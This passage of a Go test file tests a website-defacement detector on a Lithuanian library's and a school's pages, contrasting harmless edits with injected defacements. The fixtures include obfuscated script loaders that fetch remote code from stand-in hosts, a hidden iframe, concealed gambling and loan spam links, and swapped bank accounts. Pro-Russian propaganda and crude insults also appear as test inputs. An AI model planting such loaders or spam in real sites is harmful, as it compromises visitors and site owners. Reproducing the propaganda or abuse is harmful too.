		{"hidden by a class", change(`<style>`, `<style>.k7e{position:absolute;left:-12345px;width:900px}`, `</main>`, `<div class="k7e"><a href="https://kreditas-be-darbo.example.eu/">paskola be darbo ir pajamų</a>, <a href="https://kreditas-skolininkams.example.eu/">kreditas skolininkams</a>, <a href="https://lazybos-lt.example.bet/">lažybos internetu</a></div></main>`)},
		{"hexadecimal escapes", change(`</head>`, `<script>var _0x3f2a=["\x73\x63\x72\x69\x70\x74","\x68\x74\x74\x70\x73\x3a\x2f\x2f\x6b\x2e\x70\x75\x73\x68\x2d\x61\x64\x73\x2e\x63\x63\x2f\x61\x2e\x6a\x73","\x63\x72\x65\x61\x74\x65\x45\x6c\x65\x6d\x65\x6e\x74","\x62\x6f\x64\x79"];setTimeout(function(){var a=document[_0x3f2a[2]](_0x3f2a[0]);a.src=_0x3f2a[1];document[_0x3f2a[3]].appendChild(a)},900);</script></head>`)},
		{"hreflang of strangers", change(`<link href="/index.php?format=feed`, `<link rel="alternate" hreflang="id" href="https://bola88.example.live/"><link rel="alternate" hreflang="x-default" href="https://bola88.example.live/"><link href="/index.php?format=feed`)},
		{"description and title in Thai", change(cut(`<meta name="description"`, `>`), `<meta name="description" content="สล็อตเว็บตรง แตกง่าย ฝากถอนไม่มีขั้นต่ำ สมัครวันนี้รับเครดิตฟรี">`, cut(`<title>`, `</title>`), `<title>สล็อตเว็บตรง อันดับ 1 แตกง่าย 2026</title>`)},
	}
}

// What is near to what the sixth set taught, on the library's page; written after that.
func sixthNearEdits() []edit {
	return []edit{
		{"an account more, for a collection", change(`AB SEB bankas.`, `AB SEB bankas. Parama pabėgėlių vaikų knygoms: LT60 1010 0123 4567 8901, UAB Urbo bankas.`)},
		{"the account written in groups", change(`LT647044001231465456`, `LT64 7044 0012 3146 5456`)},
		{"help in Ukrainian, in Telegram", change(`<section class="hours">`, `<section><p>Допомога українцям у нашому районі: підписуйтесь на канал <a href="https://t.me/ukraine_paezeriai">t.me/ukraine_paezeriai</a>, там розклад занять, контакти волонтерів і новини бібліотеки.</p></section><section class="hours">`)},
		{"blocks that are faded in", change(`<main>`, `<main style="opacity:0;transform:translateY(24px)">`, `<aside class="sidebar-right">`, `<aside class="sidebar-right" data-aos="fade-up" style="opacity:0">`)},
		{"a script that waits, as LiteSpeed writes it", change(`</head>`, `<script src="data:text/javascript;base64,d2luZG93LmRhdGFMYXllcj13aW5kb3cuZGF0YUxheWVyfHxbXTtmdW5jdGlvbiBndGFnKCl7ZGF0YUxheWVyLnB1c2goYXJndW1lbnRzKTt9Z3RhZygnanMnLG5ldyBEYXRlKCkpO2d0YWcoJ2NvbmZpZycsJ0ctN0gyS1EwWFcxUCcpOw==" defer></script></head>`)},
		{"the state of a page with its addresses", change(`</body>`, `<script>window.__NUXT__={"img":"https:\u002F\u002Fimages.ctfassets.net\u002Fx\u002Fy.jpg","api":"\u002Fapi\u002Fnews"}</script></body>`)},
		{"languages on names of their own", change(`</head>`, `<link rel="alternate" hreflang="en" href="https://en.mokykla.example.lt/"><link rel="alternate" hreflang="x-default" href="https://www.mokykla.example.lt/"></head>`)},
		{"a film that waits for consent", change(`</body>`, `<script>document.querySelector('#film').src=atob('aHR0cHM6Ly93d3cueW91dHViZS1ub2Nvb2tpZS5jb20vZW1iZWQvYWJj');</script></body>`)},
		{"a player that is written by a script", change(`</body>`, `<script>function play(id){document.getElementById('f').innerHTML='<iframe width="560" src="https://www.youtube-nocookie.com/embed/'+id+'"></iframe>';}</script></body>`)},
		{"behind Cloudflare", change(`</body>`, `<script>(function(){function c(){var b=a.contentDocument||a.contentWindow.document;if(b){var d=b.createElement('script');d.innerHTML="window.__CF$cv$params={r:'8f0a1b2c3d4e5f60',t:'MTczMjg3NjU0My4wMDAwMDA='};var a=document.createElement('script');a.nonce='';a.src='/cdn-cgi/challenge-platform/scripts/jsd/main.js';document.getElementsByTagName('head')[0].appendChild(a);";b.getElementsByTagName('head')[0].appendChild(d)}}if(document.body){var a=document.createElement('iframe');a.height=1;a.width=1;a.style.position='absolute';a.style.top=0;a.style.visibility='hidden';document.body.appendChild(a);c()}})();</script></body>`)},
		{"many links to one publisher abroad", change(`<section class="hours">`, `<section>`+strings.Repeat(`<a href="https://www.storyweaver.org/books">Pasaka</a> `, 7)+`</section><section class="hours">`)},
		{"a name that ends like another", change(`https://www.vyturys.lt/`, `https://x.com/vyturys`, `<section class="hours">`, `<a href="https://www.media-x.com/">Media X</a><section class="hours">`)},
		{"a title in two languages", change(`<title>Paežerių viešoji biblioteka - Pradžia</title>`, `<title>Разом до перемоги – Paežerių biblioteka su Ukraina</title>`)},
		{"a lecture on money of the future", change(`<section class="hours">`, `<section><p>Paskaita „Kas yra bitkoinas ir kodėl jo kaina šokinėja“. Lektorius – ekonomistas.</p></section><section class="hours">`)},
		{"news of others, with the Lithuanian word for but", change(`<section class="hours">`, `<ul><li><a href="https://www.lrt.lt/naujienos/1">Sniego bus, bet nedaug</a></li><li><a href="https://www.15min.lt/naujiena/2">Skaito mažiau, bet geriau</a></li><li><a href="https://www.bernardinai.lt/3">Sena, bet gyva</a></li></ul><section class="hours">`)},
		{"a festival for the 30th time", change(`<main>`, `<main><h2>XXX tarptautinis folkloro festivalis</h2><p><a href="https://www.cioff-festival.org/">XXX festivalis „Ežerai“</a>, <a href="https://www.llkc.lt/">XXXIV dainų šventė</a></p>`)},
		{"the festival in the title", change(`- Pradžia</title>`, `- XXX knygų mugė</title>`)},
		{"an evening of opera", change(`<main>`, `<main><p>Sekite mus: #operosvakaras #operetebibliotekoje</p>`)},
		{"people and places with unlucky names", change(`<section class="hours">`, `<p><a href="https://www.judita-art.com/">Judita Vaičiūnaitė</a>, <a href="https://www.essex.ac.uk/">University of Essex</a>, <a href="https://www.sloanreview.org/">Sloan Review</a></p><section class="hours">`)},
		{"a nest of storks, live", change(`<main>`, `<main><h3>Gandralizdis: live cam</h3><p><a href="https://www.birdcam-nests.com/lt">Live cam</a></p>`)},
		{"lessons of English", change(`<main>`, `<main><h3>Essay writing</h3><p><a href="https://www.writeandimprove.org/">Essay writing tips</a></p>`)},
		{"loans for students, credits of studies", change(`<section class="hours">`, `<p><a href="https://vsf.lrv.lt/">Paskolos studijoms</a>, <a href="https://www.skvc.lt/">ECTS kreditai</a>, <a href="https://www.vu.lt/">Kreditų užskaitymas</a></p><section class="hours">`)},
		{"goodbye for the summer", change(`<main>`, `<main><h3>Gražios vasaros! Laukite mūsų sugrįžtant rugsėjį.</h3>`)},
		{"the library's own past", change(`<main>`, `<main><h3>Biblioteka buvo sunaikinta 1944 metų gaisre</h3>`)},
		{"the 16th of February", change(`<main>`, `<main><h3>Lietuva yra mūsų namai: vaikų piešinių paroda</h3>`)},
		{"winners of a quiz", change(`<main>`, `<main><h3>Šaunuoliai, jūs laimėjote!</h3>`)},
		{"a threat that came", change(`<main>`, `<main><h3>Gautas laiškas apie užminuotą mokyklą. Pamokos vyksta nuotoliu.</h3>`)},
		{"a team of robots", change(`<main>`, `<main><h3>Robotikos komanda „Cyber Hunters“ – antra respublikoje</h3>`)},
		{"the past, in English", change(`<main>`, `<main><h3>The library was owned by Count Tyszkiewicz until 1940</h3>`)},
		{"we are rooted", change(`<main>`, `<main><h3>We are rooted in our town</h3>`)},
		{"1863", change(`<main>`, `<main><h3>„Sukilkite, karžygiai!“ – 1863 metų sukilimo minėjimas</h3>`)},
		{"a play", change(`<main>`, `<main><h3>Spektaklis „Mes matome viską“</h3>`)},
		{"form of contact in English", change(`<main>`, `<main><h3>Message to the administrator</h3>`)},
		{"geography of Crimea", change(`<main>`, `<main><h3>Paroda „Krymas yra Ukraina“. Slava Ukraini!</h3>`)},
		{"pirates of the seas", change(`<main>`, `<main><h3>Knyga „Užgrobtas laivas“ ir filmas „Įsilaužėliai“</h3>`)},
		{"a bucket of the library's films", change(`<section class="hours">`, `<video src="https://s3.eu-central-1.amazonaws.com/paezeriu-biblioteka/filmas.mp4"></video><section class="hours">`)},
	}
}

func sixthNearDefacements() []edit {
	return []edit{
		{"an address in character codes", change(`</body>`, `<script>var s=document.createElement('script');s.src=String.fromCharCode(104,116,116,112,115,58,47,47,99,100,110,46,102,97,115,116,45,115,116,97,116,46,111,114,103,47,97,46,106,115);document.body.appendChild(s)</script></body>`)},
		{"a loader in an address", change(`</body>`, `<script src="data:text/javascript;base64,dmFyIHM9ZG9jdW1lbnQuY3JlYXRlRWxlbWVudCgnc2NyaXB0Jyk7cy5zcmM9J2h0dHBzOi8vanMuY2xvdWQtc3RhdC5vcmcveC5qcyc7ZG9jdW1lbnQuaGVhZC5hcHBlbmRDaGlsZChzKTs="></script></body>`)},
		{"a frame that a script puts in", change(`</body>`, `<script>document.body.insertAdjacentHTML('beforeend',"<iframe style='width:0' src='https://stat.go-click.org/i'></iframe>")</script></body>`)},
		{"escapes of Unicode", change(`</body>`, `<script>var u="\u0068\u0074\u0074\u0070\u0073\u003a\u002f\u002f\u0069\u006d\u0067\u002e\u0070\u0075\u0073\u0068\u002d\u0067\u006f\u002e\u006e\u0065\u0074\u002f\u0070\u002e\u006a\u0073";var e=document.createElement("script");e["s"+"rc"]=u;document.body.append(e)</script></body>`)},
		{"icon and picture by a stranger", change(`/media/templates/site/cassiopeia/images/favicon.ico`, `https://cdn.black-eagle.org/f.ico`, `/images/2026/kalnietis.jpg`, `https://cdn.black-eagle.org/flag.png`)},
		{"a wallet in the foot of the page", change(`<p>Steigėja`, `<p>Support us (ETH): 0x52908400098527886E0F7030069857D2E4169EE7</p><p>Steigėja`)},
		{"an account abroad in place of the own", change(`LT647044001231465456, AB SEB bankas`, `LV80 BANK 0000 4351 9500 1`)},
		{"the own name before another", change(`/index.php/paslaugos`, `https://www.mokykla.example.lt.user-portal.org/paslaugos`)},
		{"a title in Chinese", change(`<title>Paežerių viešoji biblioteka - Pradžia</title>`, `<title>欢迎光临 图书馆</title>`)},
		{"an appeal in Russian, with an address in Russia", change(`<main>`, `<main><p>Жители района! Вас обманывают, эта власть скоро кончится. Читайте правду, которую от вас скрывают: <a href="https://pravda-litva.ru/">pravda-litva.ru</a></p>`)},
		{"the Japanese edition elsewhere", change(`</head>`, `<link rel="alternate" hreflang="ja" href="https://brand-kopi.com/ja/"></head>`)},
		{"news and menu lead to one stranger", change(`"/index.php/`, `"https://paez-lib.org/index.php/`)},
		{"one link to a bookmaker", change(`</main>`, `<p>Rėmėjas: <a href="https://lt-bonus.com/mb">Melbet promo</a></p></main>`)},
		{"a bucket of a stranger", change(`</body>`, `<script src="https://s3.amazonaws.com/stats-collector/a.js"></script></body>`)},
	}
}

// What is said wrongly in good Lithuanian is told when it is said as propaganda says it,
// or as nobody speaks who is well brought up.
func TestWrongTextInGoodLithuanianIsTold(t *testing.T) {
	for page, all := range map[string][]edit{
		sixthSchool: {
			{"slogan in good Lithuanian in one news item", change(cut(`<p>Penktadienį gimnazijoje`, `</p>`), `<p>Lietuvos valdžia pardavė jus NATO ir stumia jūsų vaikus į karą su Rusija. Nepriklausoma Lietuva – melas. Išvykite iš šalies, kol nevėlu, arba žūsite už svetimus interesus. Šlovė didžiajai Rusijai!</p>`)},
		},
		sixthLibrary: {
			{"banner against the country", change(`<header class="header`, `<div style="background:#fff;color:#0039a6;font-size:30px;text-align:center">Bibliotekos neturi platinti vakarų propagandos. Krymas – Rusija. Mes grįšime į Vilnių, kaip grįžome 1940-aisiais. 🇷🇺 Z</div><header class="header`)},
			{"an insult in place of a news item", change(cut(`<p>Nuo šios savaitės lankytojų`, `</p>`), `<p>Direktorė vagia biudžeto pinigus, o jūs, avinai, vis dar čia skaitote pasakėles. Visos bibliotekininkės – kvailos karvės, eikit šikt.</p>`)},
		},
	} {
		before := snapshot(t, page)
		for _, e := range all {
			if v := content.Compare([]content.Snapshot{before}, snapshot(t, e.make(page))); !v.Alarming() {
				t.Errorf("%s is not told: %s", e.name, told(v))
			}
		}
	}
}
